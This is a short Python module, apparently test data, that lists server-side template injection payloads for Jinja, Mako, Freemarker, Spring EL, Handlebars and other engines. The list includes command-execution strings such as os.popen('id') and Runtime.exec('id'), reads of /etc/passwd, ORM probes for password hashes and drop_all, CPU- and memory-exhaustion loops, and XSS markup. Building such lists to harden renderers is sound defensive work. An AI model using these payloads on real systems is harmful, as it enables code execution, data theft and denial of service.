"""What attackers write into templates: ways out of Jinja, Mako, Django, Twig, Freemarker, Velocity, ERB, `str.format` and f-strings;
walks over the ORM; loops and products that eat time and memory; markup that a browser would run."""

from __future__ import annotations

from itertools import product

_ROOTS = ("name", "self", "request", "config", "cycler", "lipsum", "joiner", "namespace", "g", "session", "''", "()", "[]", "{}", "1", "address")
_WALKS = (
    ".__class__", ".__class__.__mro__[1].__subclasses__()", ".__init__.__globals__", "['__class__']", "|attr('__class__')",
    ".__init__.__globals__['os'].popen('id').read()",
)
_BARE = (
    "{{ name.format }}", "{{ '{0.__class__}'.format(name) }}", "{{ '{0.__init__.__globals__}'|format(name) }}", "{0.__class__.__mro__}", "{name.__init__.__globals__}",
    "{name!r:{name.__class__}}", "%(name)s", "%s%s%s%n", "f'{name}'", "{{ f'{name}' }}", "{{ name % name }}", "{{ name * 300000000 }}", "{{ 'a' * 300000000 }}",
    "{{ range(100000000) }}", "{% for i in range(10**9) %}x{% endfor %}", "{% for a in name %}{% for b in name %}{% for c in name %}x{% endfor %}{% endfor %}{% endfor %}",
    "{{ name ** 9999999 }}", "{{ 9**9**9 }}", "{{ name|center(300000000) }}", "{{ name|indent(300000000) }}", "{{ ('a'*10000)|replace('a','a'*10000) }}",
    "{% set x = name.__class__ %}{{ x }}", "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", "{% include '/etc/passwd' %}", "{% import 'os' as os %}",
    "{% extends 'base.html' %}", "{% from 'x' import y %}", "{% raw %}{{ name.__class__ }}{% endraw %}", "{% call name() %}{% endcall %}", "{% filter attr('__class__') %}name{% endfilter %}",
    "{% if name.__class__ %}x{% end %}", "{% if name == name.__class__ %}x{% end %}", "{% if name() %}x{% end %}", "{% if name and config %}x{% end %}", "{% if not name.__class__ %}x{% end %}",
    "{% autoescape false %}{{ name }}{% endautoescape %}", "{% debug %}", "{% load log %}{% get_admin_log 10 as l %}", "{% ssi '/etc/passwd' %}", "{% do name.append(1) %}",
    "{{ owner.password_hash }}", "{{ name.owner.password_hash }}", "{{ record.owner.password_hash }}", "{{ customer.metadata.tables }}", "{{ metadata.drop_all() }}",
    "{{ name.metadata.bind.execute('select 1') }}", "{{ frappe.db.sql('select 1') }}", "{{ env['res.users'].search([]) }}", "{{ session.execute('select 1') }}", "{{ db.engine }}",
    "{{ site().config.secret }}", "{{ actor().can('*') }}", "{{ event.__init__.__code__.co_consts }}", "{{ loop.__class__ }}", "{{ caller() }}", "{{ super() }}", "{{ _ }}", "{{ __builtins__ }}",
    "{{ url_for.__globals__ }}", "{{ get_flashed_messages.__globals__ }}", "{{ request.application.__globals__ }}", "{{ name|map('attr','__class__')|list }}", "{{ name|xmlattr }}",
    "{{ [name]|map(attribute='__class__')|list }}", "{{ dict(a=name)|attr('items') }}", "{{ name|safe }}", "{{ name|tojson }}", "{{ name|pprint }}", "{{ name|sum(attribute='x') }}",
    "{{ name | upper | attr }}", "{{ name | upper() }}", "{{ name | 'upper' }}", "{{ | upper }}", "{{}}", "{{ }}", "{{ name name }}", "{{ name, name }}", "{{ name; name }}", "{{ name\n.upper }}",
    "{{{{ name }}}}", "{{ {{ name }} }}", "{{ name }", "{ { name.__class__ } }", "{{ na{{ name }}me }}", "{{- name.__class__ -}}", "{%- if name -%}", "{{ name", "name }}", "{% name %}", "{%%}", "{% end %}{% if name %}",
    "{{\u2028name.__class__}}", "{{ ｎａｍｅ．__class__ }}", "{{ name\u200b.__class__ }}", "{{ \u202ename }}", "{{ name\x00 }}", "{{ ＿＿class＿＿ }}", "｛｛ name.__class__ ｝｝", "{{ n\u0430me }}",
    "${name.__class__}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "<% import os %>", "${self.module.cache.util.os.system('id')}", "#set($x=1)$x.class", "<#assign ex='freemarker.template.utility.Execute'?new()>",
    "${T(java.lang.Runtime).getRuntime().exec('id')}", "[[${7*7}]]", "@(7*7)", "{php}echo 1;{/php}", "{{#with name}}{{lookup . 'constructor'}}{{/with}}", "{{constructor.constructor('alert(1)')()}}",
    "{{#each name}}x{{/each}}", "{{> partial}}", "{{{name}}}", "{{&name}}", "{{=<% %>=}}", "{{!-- --}}", "\\input{/etc/passwd}", "\\write18{id}", "$\\catcode`\\_=12$", "`id`", "$(id)",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</text></svg><script>alert(1)</script>", "<svg onload=alert(1)>", "<style>*{background:url(file:///etc/passwd)}</style>",
    "<link rel=attachment href=file:///etc/passwd>", "<img src=\"file:///etc/passwd\">", "<object data=http://127.0.0.1/>", "]]><x>", "&lt;script&gt;", "&#60;script&#62;", "\x1b[31m", "\u0000", "{{ name }}\ud800".encode("utf-8", "replace").decode(),
)  # fmt: skip
TEMPLATES: tuple[str, ...] = tuple(dict.fromkeys([*(f"{{{{ {root}{walk} }}}}" for root, walk in product(_ROOTS, _WALKS)), *_BARE]))
